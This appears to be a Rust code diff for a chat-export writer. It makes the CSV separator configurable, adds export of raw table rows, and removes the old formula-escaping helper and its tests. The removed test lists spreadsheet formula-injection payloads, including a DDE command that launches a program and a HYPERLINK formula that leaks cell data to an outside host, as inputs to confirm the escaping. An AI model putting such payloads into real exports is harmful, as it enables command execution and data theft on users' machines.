@@ -1,17 +1,15 @@
-//! Writes exports line by line, either as CSV for spreadsheets or as JSON Lines.
+//! Writes exports line by line, either as a file for spreadsheets (see [`super::csv`]) or as JSON Lines.
 
-use engine::{
-    store::{ExportItem, PastChat, VisitorFacts},
-    user_agent::Device,
-};
+use engine::store::{ExportItem, ExportedRow, ExportedValue, PastChat};
 use protocol::{
     agent::Directory,
     chat::{Author, Body, Entry},
     language::Language,
 };
-use serde_json::{Value, json};
+use serde_json::{Map, Value, json};
 
 use super::{
+    csv::{self, Separator},
     history::{agent_name, concierge_name, entry_words, outcome, rating_words, visitor_name},
     i18n,
 };
@@ -19,8 +17,8 @@ use super::{
 /// An export format.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Format {
-    /// Comma-separated values (RFC 4180), with one row per chat entry.
-    Csv,
+    /// A file for spreadsheets (RFC 4180 with any separator), with one row per chat entry.
+    Csv(Separator),
     /// One JSON object per line: each chat is followed by its entries. The last line contains the number of chats and
     /// entries.
     JsonLines,
@@ -59,8 +57,9 @@ impl ExportWriter {
     /// Returns the text that precedes the first item.
     pub fn head(&self) -> String {
         match self.format {
-            // The byte order mark lets spreadsheets detect UTF-8.
-            Format::Csv => format!("\u{feff}{}", row(&HEADS.map(str::to_owned))),
+            Format::Csv(separator) => {
+                format!("{}{}", csv::BYTE_ORDER_MARK, csv::row(separator, &HEADS.map(str::to_owned)))
+            }
             Format::JsonLines => String::new(),
         }
     }
@@ -75,48 +74,87 @@ impl ExportWriter {
             ExportItem::Chat(chat) => {
                 self.counted.0 += 1;
                 let line = match self.format {
-                    Format::Csv => String::new(),
+                    Format::Csv(_) => String::new(),
                     Format::JsonLines => format!("{}\n", json!({ "chat": self.chat_json(&chat) })),
                 };
                 self.chat = Some(*chat);
                 line
             }
+            ExportItem::Row(row) => self.row_line(&row),
             ExportItem::End => self.end(),
             ExportItem::Entry(entry) => {
                 self.counted.1 += 1;
                 match (self.format, &self.chat) {
-                    (Format::Csv, Some(chat)) => self.csv(chat, &entry),
+                    (Format::Csv(separator), Some(chat)) => self.csv(separator, chat, &entry),
                     _ => format!("{}\n", json!({ "entry": self.entry_json(&entry) })),
                 }
             }
         }
     }
 
+    /// Returns the line for a row with data of a visitor: the table's name and the columns. Agents, concierges and teams
+    /// are named.
+    fn row_line(&mut self, row: &ExportedRow) -> String {
+        match row.table.as_str() {
+            "chat" => self.counted.0 += 1,
+            "entry" => self.counted.1 += 1,
+            _ => {}
+        }
+        let columns = row.columns.iter().map(|(name, value)| (name.clone(), self.value(value.as_ref())));
+        let mut columns: Map<String, Value> = columns.collect();
+        if row.table == "file"
+            && let Some(id) = columns.get("id").and_then(Value::as_str)
+        {
+            let address = format!("/files/{id}").into();
+            columns.insert("address".into(), address);
+        }
+        format!("{}\n", json!({ row.table.as_str(): columns }))
+    }
+
+    fn value(&self, value: Option<&ExportedValue>) -> Value {
+        match value {
+            None => Value::Null,
+            Some(ExportedValue::Number(number)) => (*number).into(),
+            Some(ExportedValue::Text(text)) => self.name_of(text).unwrap_or(text).into(),
+        }
+    }
+
+    /// Returns the name of the agent, concierge or team with this id.
+    fn name_of(&self, id: &str) -> Option<&str> {
+        let Directory { agents, concierges, teams, .. } = &self.directory;
+        let agents = agents.iter().map(|card| (card.id.0, &card.name));
+        let concierges = concierges.iter().map(|card| (card.id.0, &card.name));
+        let mut all = agents.chain(concierges).chain(teams.iter().map(|card| (card.id.0, &card.name)));
+        let id = uuid::Uuid::parse_str(id).ok()?;
+        all.find(|(found, _)| *found == id).map(|(_, name)| name.as_str())
+    }
+
     /// Returns the text that follows the last item. In JSON Lines, its presence shows that the export is complete.
     pub fn end(&self) -> String {
         match self.format {
-            Format::Csv => String::new(),
+            Format::Csv(_) => String::new(),
             Format::JsonLines => {
                 format!("{}\n", json!({ "end": { "chats": self.counted.0, "entries": self.counted.1 } }))
             }
         }
     }
 
-    fn csv(&self, chat: &PastChat, entry: &Entry) -> String {
-        row(&[
+    fn csv(&self, separator: Separator, chat: &PastChat, entry: &Entry) -> String {
+        let cells = [
             chat.id.to_string(),
-            chat.began_at.to_string(),
-            chat.ended_at.map(|at| at.to_string()).unwrap_or_default(),
+            csv::time(chat.began_at),
+            chat.ended_at.map(csv::time).unwrap_or_default(),
             outcome(chat).to_owned(),
             chat.rating.map(rating_words).unwrap_or_default().to_owned(),
             concierge_name(&self.directory, chat).to_owned(),
             visitor_name(chat).to_owned(),
             chat.visitor_email.clone().unwrap_or_default(),
             entry.seq.to_string(),
-            entry.at.to_string(),
+            csv::time(entry.at),
             self.author(entry),
             entry_words(&self.directory, entry),
-        ])
+        ];
+        csv::row(separator, &cells)
     }
 
     fn chat_json(&self, chat: &PastChat) -> Value {
@@ -148,90 +186,5 @@ impl ExportWriter {
             Author::Agent(agent) => agent_name(&self.directory, agent),
             Author::Concierge => String::new(),
         }
-    }
-}
-
-/// Formats a row, including its line ending.
-fn row(cells: &[String]) -> String {
-    format!("{}\r\n", cells.iter().map(|text| cell(text)).collect::<Vec<_>>().join(","))
-}
-
-/// Escapes a cell so that no spreadsheet interprets it as a formula. A cell that starts with `'`, or with a character
-/// that could start a formula, is prefixed with `'`. Readers must strip one leading `'`.
-fn cell(text: &str) -> String {
-    const BEGINS_A_FORMULA: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\'', '＝', '＋', '－', '＠'];
-    let text = text.replace('\0', "");
-    let text = if text.starts_with(BEGINS_A_FORMULA) { format!("'{text}") } else { text };
-    let is_plain = text.chars().all(|letter| !matches!(letter, '"' | ',' | ';' | '\r' | '\n' | '\t'));
-    if is_plain && text.trim() == text { text } else { format!("\"{}\"", text.replace('"', "\"\"")) }
-}
-
-/// Returns everything stored about a visitor, always in English. Chats are not included; they are exported as lines.
-pub fn visitor_json(facts: &VisitorFacts, directory: &Directory) -> Value {
-    i18n::in_language(Language::En, || visitor_json_in_english(facts, directory))
-}
-
-fn visitor_json_in_english(facts: &VisitorFacts, directory: &Directory) -> Value {
-    let visitor = &facts.visitor;
-    json!({
-        "visitor": {
-            "id": visitor.id.to_string(), "name": visitor.name, "email": visitor.email,
-            "filled_in_by_an_agent": visitor.by_agent, "first_at": visitor.first_at, "seen_at": visitor.seen_at,
-        },
-        "visits": facts.visits.iter().map(|visit| json!({
-            "id": visit.id.to_string(), "started_at": visit.started_at, "browser": visit.browser,
-            "referrer": visit.source.referrer, "campaign": visit.source.campaign, "language": visit.source.language,
-            "time_zone": visit.source.time_zone, "device": visit.source.device.map(Device::as_str),
-            "pages": visit.page_views.iter().map(|view| json!({
-                "at": view.at, "url": view.page.url, "title": view.page.title,
-            })).collect::<Vec<_>>(),
-        })).collect::<Vec<_>>(),
-        "invitations": facts.invitations.iter().map(|invitation| json!({
-            "by": agent_name(directory, invitation.by), "sent_at": invitation.sent_at, "text": invitation.text,
-            "state": invitation.state.as_str(),
-        })).collect::<Vec<_>>(),
-        "notes": facts.notes.iter().map(|note| json!({
-            "by": agent_name(directory, note.by), "at": note.at, "text": note.text,
-        })).collect::<Vec<_>>(),
-    })
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn csv_cell_is_never_a_formula() {
-        for text in
-            ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"//x?\"&A1)"]
-        {
-            let cell = cell(text);
-            assert!(cell.starts_with('\'') || cell.starts_with("\"'"), "{cell}");
-        }
-        assert_eq!(cell("a=1"), "a=1");
-    }
-
-    /// Parses a row the way a reader that supports RFC 4180 and the `'` prefix would.
-    fn read_back(row: &str) -> Vec<String> {
-        let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
-        let mut letters = row.strip_suffix("\r\n").unwrap().chars().peekable();
-        while let Some(letter) = letters.next() {
-            match letter {
-                '"' if quoted && letters.peek() == Some(&'"') => cell.push(letters.next().unwrap()),
-                '"' => quoted = !quoted,
-                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
-                _ => cell.push(letter),
-            }
-        }
-        cells.push(cell);
-        cells.into_iter().map(|cell| cell.strip_prefix('\'').map_or(cell.clone(), str::to_owned)).collect()
-    }
-
-    #[test]
-    fn csv_row_round_trips() {
-        let texts =
-            ["plain", "a \"word\"", "one;two,three", "two\r\nlines", "🧗‍♀️", "=1", "'quoted'", "", " space ", "-"];
-        let cells: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
-        assert_eq!(read_back(&row(&cells)), cells);
     }
 }
